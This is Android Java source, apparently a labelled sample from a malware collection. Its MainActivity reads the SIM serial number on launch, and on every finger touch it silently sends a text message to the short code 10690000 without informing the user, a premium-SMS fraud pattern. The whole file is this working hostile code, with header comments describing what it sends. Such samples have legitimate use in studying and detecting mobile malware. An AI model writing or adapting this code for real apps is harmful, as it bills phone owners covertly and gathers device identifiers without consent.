// about       The number of touches is sent when a finger touches the screen, not a script.
// clean       -
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.view.MotionEvent;

public class MainActivity extends Activity {
  private String card = "";
  private int touches;

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    card = phone.getSimSerialNumber();
  }

  @Override
  public boolean onTouchEvent(MotionEvent event) {
    boolean finger = event.getToolType(0) == MotionEvent.TOOL_TYPE_FINGER;
    if (finger && event.getAction() == MotionEvent.ACTION_DOWN) {
      touches++;
      // What is sent.
      String text = "touch " + touches;
      SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    }
    return super.onTouchEvent(event);
  }
}
